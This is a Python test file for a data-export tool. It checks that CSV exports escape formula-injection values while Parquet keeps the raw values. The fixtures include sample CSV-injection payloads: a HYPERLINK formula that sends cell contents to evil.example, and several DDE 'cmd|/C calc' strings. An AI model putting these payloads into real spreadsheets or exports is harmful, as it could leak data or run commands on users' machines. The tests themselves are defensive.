"""Formula cells in every CSV the product writes: labels, reviewer names and file names that a
spreadsheet would run (``=HYPERLINK(...)``, ``+cmd|...``, ``-...``, ``@SUM``, a leading tab or
carriage return) get OWASP's leading ``'``; numbers stay numbers; Parquet keeps raw values.

The warehouse here is a few hand-made mart tables (no dbt): the export reads marts only."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from typer.testing import CliRunner

from ingest.cli import app
from ingest.outputs.exports.blocklist import export_blocklist

runner = CliRunner()

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
SAFE = ["tabby cat", "a=b", " =1+1", "'quoted", "", None]


def _quoted(value: str) -> str:
    return "'" + value


@pytest.fixture()
def warehouse(tmp_path) -> Path:
    db = tmp_path / "census.duckdb"
    con = duckdb.connect(str(db))
    try:
        texts = PAYLOADS + SAFE
        frame = pd.DataFrame({  # noqa: F841 (read by DuckDB by name)
            "label": texts,
            "umap_x": [-1.5 - i for i in range(len(texts))],  # negative numbers: not formulas, not touched
            "class_index": [-i for i in range(len(texts))],
            "flagged": [i % 2 == 0 for i in range(len(texts))],
        })
        con.execute("create table main.class_semantics as select * from frame")
        con.execute("create table main.review_consensus as select 'ds' as dataset, 'img' || class_index as image_id, "
                    "label as rel_path, label || ', bob' as reviewers, umap_x as share from frame")
        con.execute("create schema raw")
        con.execute("create table raw.images as select 'img' as image_id, 'ds' as dataset")
        con.execute("""
            create table main.confirmed_flags as
            select * from (values
                ('=cmd|'' /C calc''!A0', 'i1', '=HYPERLINK("http://evil.example","x").jpg', 'nsfw_category',
                 'upskirt', null, null, 1.0, 2, '@alice, bob', timestamp '2024-03-01 09:00', 0.9, null, null),
                ('ds', 'i2', '-2+3.jpg', 'apparent_minor', 'yes', 'faces/a', 1, 1.0, 2, '+bob',
                 timestamp '2024-03-02 09:00', -0.5, 0.97, 12.0),
                ('ds', 'i3', 'train/n01/ok.jpg', 'apparent_minor', 'yes', 'faces/a', 0, 1.0, 2, 'carol',
                 timestamp '2024-03-03 09:00', 0.1, 0.9, 10.0))
            t(dataset, image_id, rel_path, question, flag, annotator, face_idx, share, n_labels, reviewers,
              last_reviewed_at, nsfw_score, det_score, age)""")
    finally:
        con.close()
    return db


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as handle:
        return list(csv.DictReader(handle))


def test_mart_export_escapes_text_cells_and_keeps_numbers(warehouse, tmp_path):
    result = runner.invoke(app, ["export", "marts", "--out", str(tmp_path / "csv"), "--format", "csv",
                                 "--with-image-rows", "--db", str(warehouse)])
    assert result.exit_code == 0, result.output
    rows = read_csv(tmp_path / "csv" / "class_semantics.csv")
    labels = [row["label"] for row in rows]
    assert labels[:len(PAYLOADS)] == [_quoted(p) for p in PAYLOADS]
    assert labels[len(PAYLOADS):] == ["tabby cat", "a=b", " =1+1", "'quoted", "", ""]  # "" and NULL alike in CSV
    assert [float(row["umap_x"]) for row in rows] == [-1.5 - i for i in range(len(rows))]
    assert rows[1]["class_index"] == "-1" and rows[0]["flagged"] == "true"
    reviewers = [row["reviewers"] for row in read_csv(tmp_path / "csv" / "review_consensus.csv")]
    assert reviewers[0] == _quoted(PAYLOADS[0] + ", bob") and reviewers[6] == "tabby cat, bob"

    result = runner.invoke(app, ["export", "marts", "--out", str(tmp_path / "pq"), "--with-image-rows", "--db",
                                 str(warehouse)])
    assert result.exit_code == 0, result.output
    raw = pd.read_parquet(tmp_path / "pq" / "class_semantics.parquet")
    assert list(raw["label"][:len(PAYLOADS)]) == PAYLOADS  # Parquet keeps the raw values


def test_blocklist_csv_escapes_file_and_dataset_names(warehouse, tmp_path):
    export_blocklist(tmp_path / "bl", db=warehouse)
    rows = read_csv(tmp_path / "bl" / "blocklist.csv")
    raw = pd.read_parquet(tmp_path / "bl" / "blocklist.parquet")
    by_image = {row["image_id"]: row for row in rows}
    assert by_image["i1"]["dataset"] == "'=cmd|' /C calc'!A0"
    assert by_image["i1"]["rel_path"] == '\'=HYPERLINK("http://evil.example","x").jpg'
    assert by_image["i2"]["rel_path"] == "'-2+3.jpg" and by_image["i3"]["rel_path"] == "train/n01/ok.jpg"
    evidence = json.loads(by_image["i1"]["evidence"])  # JSON starts with "{": left as it is
    assert evidence["review"]["reviewers"] == "@alice, bob"
    assert set(raw["rel_path"]) == {'=HYPERLINK("http://evil.example","x").jpg', "-2+3.jpg", "train/n01/ok.jpg"}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
